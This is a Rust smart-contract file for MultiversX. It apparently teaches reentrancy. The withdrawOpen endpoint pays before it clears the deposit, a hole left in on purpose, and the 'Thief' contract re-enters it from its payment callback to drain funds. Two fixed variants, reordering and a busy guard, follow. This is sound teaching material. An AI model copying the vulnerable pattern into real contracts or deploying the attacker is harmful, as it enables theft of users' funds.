//! A contract that can be re-entered, an attacker, and two ways to prevent it.
use multiversx_sc::imports::*;

pub mod purse {
    multiversx_sc::imports!();

    /// Holds deposits, and pays them out with a call, because the receiver can be a contract.
    #[multiversx_sc::contract]
    pub trait Purse {
        #[init]
        fn init(&self) {}

        #[payable("EGLD")]
        #[endpoint]
        fn deposit(&self) {
            let caller = self.blockchain().get_caller();
            self.deposits(&caller)
                .update(|sum| *sum += &*self.call_value().egld());
        }

        // #region open
        #[endpoint(withdrawOpen)]
        fn withdraw_open(&self) {
            let caller = self.blockchain().get_caller();
            let amount = self.deposits(&caller).get();
            require!(amount > 0, "nothing to withdraw");
            self.pay(&caller, &amount);
            self.deposits(&caller).clear(); // too late: the caller has already re-entered
        }

        fn pay(&self, to: &ManagedAddress, amount: &BigUint) {
            self.tx().to(to).raw_call("take").egld(amount).sync_call();
        }
        // #endregion open

        // #region order
        #[endpoint]
        fn withdraw(&self) {
            let caller = self.blockchain().get_caller();
            let amount = self.deposits(&caller).take(); // reads and clears
            require!(amount > 0, "nothing to withdraw");
            self.pay(&caller, &amount);
        }
        // #endregion order

        // #region guard
        #[endpoint(withdrawGuarded)]
        fn withdraw_guarded(&self) {
            require!(!self.is_busy().get(), "a payment is in progress");
            self.is_busy().set(true);

            let caller = self.blockchain().get_caller();
            let amount = self.deposits(&caller).get();
            require!(amount > 0, "nothing to withdraw");
            self.pay(&caller, &amount);
            self.deposits(&caller).clear();

            self.is_busy().clear();
        }

        #[storage_mapper("is_busy")]
        fn is_busy(&self) -> SingleValueMapper<bool>;
        // #endregion guard

        #[view(getDeposit)]
        #[storage_mapper("deposits")]
        fn deposits(&self, of: &ManagedAddress) -> SingleValueMapper<BigUint>;
    }
}

#[multiversx_sc::contract]
pub trait Thief {
    #[init]
    fn init(&self, purse: ManagedAddress) {
        self.purse().set(purse);
    }

    #[payable("EGLD")]
    #[endpoint]
    fn prepare(&self) {
        self.call("deposit".into(), &self.call_value().egld());
    }

    #[endpoint]
    fn attack(&self, endpoint: ManagedBuffer) {
        self.endpoint().set(&endpoint);
        self.call(endpoint, &BigUint::zero());
    }

    // #region thief
    /// Receives the payment, and re-enters the purse before its call continues.
    #[payable("EGLD")]
    #[endpoint]
    fn take(&self) {
        if !self.endpoint().is_empty() {
            self.call(self.endpoint().take(), &BigUint::zero());
        }
    }
    // #endregion thief

    fn call(&self, endpoint: ManagedBuffer, amount: &BigUint) {
        self.tx()
            .to(self.purse().get())
            .raw_call(endpoint)
            .egld(amount)
            .sync_call();
    }

    #[storage_mapper("purse")]
    fn purse(&self) -> SingleValueMapper<ManagedAddress>;

    #[storage_mapper("endpoint")]
    fn endpoint(&self) -> SingleValueMapper<ManagedBuffer>;
}
